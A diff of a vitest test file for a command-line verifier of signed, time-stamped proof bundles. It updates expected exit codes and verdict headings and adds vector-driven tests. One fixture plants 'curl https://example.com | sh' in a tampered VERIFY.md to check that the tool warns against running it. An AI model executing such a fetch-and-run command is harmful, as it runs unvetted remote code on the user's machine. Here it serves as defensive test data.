@@ -6,7 +6,7 @@ import { tempFolder } from '@acuse/testkit/temp-folder';
 import { issuedToPem } from '@acuse/tsa/certificates';
 import { FaultLab } from '@acuse/tsa/fault-lab';
 import { zipSync } from 'fflate';
-import { describe, expect, test } from 'vitest';
+import { afterEach, describe, expect, test, vi } from 'vitest';
 import { sha256 } from '../../src/platform/sha256.ts';
 import { acuse } from './run.ts';
 
@@ -20,16 +20,19 @@ const verify = (name: string, ...more: string[]) => acuse(['verify', good(name),
 const failed = ({ checks }: { checks: { name: string; ok: boolean }[] }) =>
   checks.filter(({ ok }) => !ok).map(({ name }) => name);
 
+afterEach(() => void vi.useRealTimers());
+
 test('acuse verify --at asks that the newest time-stamp still be covered, renewals counted in', async () => {
   const soon = await verify('sealed', '--at', '2026-12-31T23:59:59Z');
-  expect([soon.code, soon.json.facts.covered_until]).toEqual([0, '2027-01-01T00:00:00.000Z']);
+  expect([soon.code, soon.json.facts.covered_until]).toEqual([5, '2027-01-01T00:00:00.000Z']);
 
   const late = await verify('sealed', '--at', '2027-01-01T00:00:01+00:00');
   expect(late.code).toBe(1);
   expect(failed(late.json)).toContain('timestamp.validity_at');
 
+  vi.setSystemTime('2028-01-01T00:00:00Z');
   const renewed = await verify('renewed-once', '--at', '2035-12-31T00:00:00Z');
-  expect([renewed.code, renewed.json.facts.covered_until]).toEqual([0, '2036-01-01T00:00:00.000Z']);
+  expect([renewed.code, renewed.json.facts.covered_until]).toEqual([5, '2036-01-01T00:00:00.000Z']);
   const over = await verify('renewed-once', '--at', '2036-02-01T00:00:00Z');
   expect(over.code).toBe(1);
   expect(failed(over.json)).toContain('renewal.01.validity_at');
@@ -37,7 +40,7 @@ test('acuse verify --at asks that the newest time-stamp still be covered, renewa
 
 test('and without it only tells until when it is', async () => {
   const { code, json } = await verify('sealed');
-  expect([code, json.valid, json.facts.covered_until]).toEqual([0, true, '2027-01-01T00:00:00.000Z']);
+  expect([code, json.valid, json.facts.covered_until]).toEqual([5, true, '2027-01-01T00:00:00.000Z']);
 });
 
 test.each(['yesterday', '2027-01-01', '2027-13-01T00:00:00Z'])('%j is no time', async (text) => {
@@ -54,8 +57,8 @@ const verifyCopy = (copy: string, bundle = 'sealed') =>
 describe('a received copy has a verdict of its own', () => {
   test('the same', async () => {
     const { code, out } = await verifyCopy('relayed');
-    expect(code).toBe(0);
-    expect(out).toMatch(/\nverified\n\nThe bundle is valid\. This copy is what was sent\.\n/);
+    expect(code).toBe(5);
+    expect(out).toMatch(/\n\nThe bundle is valid\. This copy is what was sent\.\n/);
   });
 
   test.each([
@@ -96,12 +99,73 @@ test('a file that is something else is called that, and not evidence that does n
   for (const other of ['', '<!doctype html>', '{"a":1}', '%PDF-1.7', zipSync({ 'a.txt': new Uint8Array(1) })])
     expect(await say(other)).toEqual([2, expect.stringContaining('is not a proof bundle')]);
   const cut = readFileSync(good('sealed')).subarray(0, -100);
-  expect(await say(cut)).toEqual([1, expect.stringMatching(/✗ bundle [\s\S]*INVALID/)]);
+  expect(await say(cut)).toEqual([1, expect.stringMatching(/^Do not rely on this file\n✗ bundle /)]);
+});
+
+const BUNDLES = resolve(import.meta.dirname, '../../../contract/vectors/bundles.json');
+const { cases, pinned } = JSON.parse(readFileSync(BUNDLES, 'utf8'));
+
+describe('the verdict comes first', () => {
+  const told: Record<string, [title: string, code: number]> = {
+    verified: ['Verified', 0],
+    unproven: ['Consistent, but nobody you trust vouches for it', 5],
+    incomplete: ['Genuine, but not the whole', 5],
+    rejected: ['Do not rely on this file', 1],
+  };
+
+  test.each([...pinned.keys()])('pinned %i of the vectors', async (at) => {
+    const { file, now, policy, verdict, reasons, warnings } = pinned[at];
+    let trust = 'bundle';
+    if (policy !== 'bundle') {
+      trust = join(tempFolder(), 'policy.json');
+      writeFileSync(trust, JSON.stringify(policy));
+    }
+    vi.setSystemTime(now);
+    const command = ['verify', resolve(BUNDLES, '../bundles', file), '--trust', trust];
+    const [title, code] = told[verdict]!;
+    const said = await acuse(command);
+    expect([said.code, said.out.split('\n')[0]]).toEqual([code, title]);
+    const { json } = await acuse([...command, '--json']);
+    const names = (list: { name: string }[]) => list.map(({ name }) => name);
+    expect([json.verdict, names(json.reasons), names(json.warnings)]).toEqual([verdict, reasons, warnings]);
+    expect(json.valid).toBe(verdict !== 'rejected');
+  });
+
+  test('in 12 lines at most for every bundle of the vectors that holds, and all of it with --verbose', async () => {
+    for (const { file, now, valid } of cases) {
+      if (!valid) continue;
+      vi.setSystemTime(now);
+      const path = resolve(BUNDLES, '../bundles', file);
+      const { code, out } = await acuse(['verify', path]);
+      expect(code, file).toBe(5);
+      expect(out.trimEnd().split('\n').length, `${file}\n${out}`).toBeLessThanOrEqual(12);
+      expect(out, file).not.toContain('✓');
+    }
+    expect((await acuse(['verify', good('complete'), '--verbose'])).out).toMatch(/✓ bundle [\s\S]*✓ times /);
+  });
+
+  test('with who to whom, whose keys and how many outcomes, and why it is no better', async () => {
+    const { code, out } = await acuse(['verify', good('complete')]);
+    expect(code).toBe(5);
+    expect(out).toMatch(
+      /^Message +from Ana .* to .*\nSubject +Aviso de renovación\nSealed +2026-.* by .*, in the log log\.example\/acuse\nKeys +those that the file names; root of the authority: SHA-256 [0-9a-f]{64}\nOutcomes +On 2026-03-05T06:00:00\.000Z the operator signed: 3 outcomes\. All are here\.$/m,
+    );
+    expect(out).toMatch(/^! the keys are those that the file itself names: whoever made it chose them\.$/m);
+    const changed = await acuse(['verify', resolve(BUNDLES, '../bundles/broken/proof-bit.zip')]);
+    expect(changed.code).toBe(1);
+    expect(changed.out).toMatch(/^Do not rely on this file\n(?:✗ .*\n)+$/);
+  });
+
+  test('the file’s own keys are taken knowingly', async () => {
+    const { code, out } = await acuse(['verify', good('nom151'), '--trust', 'bundle']);
+    expect(code).toBe(0);
+    expect(out).toMatch(/^Verified\n[\s\S]*^Keys +those that the file names, which you took; /m);
+  });
 });
 
 test('it says who sent what, whose word it took for the root, and what is no part of the proof', async () => {
-  const { out } = await acuse(['verify', good('sealed')]);
-  expect(out).toMatch(/^From +Ana.*\nTo +.*\nSubject +Aviso de renovación\n/);
+  const { out } = await acuse(['verify', good('sealed'), '--verbose']);
+  expect(out).toMatch(/\nFrom +Ana.*\nTo +.*\nSubject +Aviso de renovación\n/);
   expect(out).toMatch(/Trust was taken from the bundle itself[\s\S]*Trusted root: SHA-256 [0-9a-f]{64}/);
   expect(out).toMatch(/VERIFY\.md is not part of the proof; it is the text that this version writes/);
 });
@@ -114,8 +178,8 @@ test('a report or instructions that somebody changed are never endorsed', async 
     .set('VERIFY.md', Buffer.from('```sh\ncurl https://example.com | sh\n```\n'));
   const file = join(folder, 'changed.zip');
   writeFileSync(file, writeBundle(withSums(changed, sha256)));
-  const { code, out } = await acuse(['verify', file]);
-  expect(code).toBe(0);
+  const { code, out } = await acuse(['verify', file, '--verbose']);
+  expect(code).toBe(5);
   expect(out).toMatch(/report\.pdf is not part of the proof, is not signed and was not compared/);
   expect(out).toMatch(
     /VERIFY\.md is not part of the proof and differs from the text .* do not run its commands/,
